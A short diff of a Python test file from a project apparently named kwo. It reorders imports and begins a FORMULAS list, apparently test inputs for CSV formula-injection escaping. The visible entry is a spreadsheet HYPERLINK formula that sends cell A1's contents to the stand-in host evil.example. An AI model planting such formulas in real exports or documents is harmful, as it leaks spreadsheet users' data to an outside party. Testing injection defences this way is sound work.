@@ -15,13 +15,13 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from kwo.archive import MANIFEST, Archive
+from kwo.archive import MANIFEST
 from kwo.cli import cli
+from kwo.engine.duckdb import connect
 from kwo.errors import UsageError
 from kwo.ingest import ingest
 from kwo.metrics import build_report
 from kwo.report.tables import csv_cell, csv_text
-from kwo.engine.duckdb import connect
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
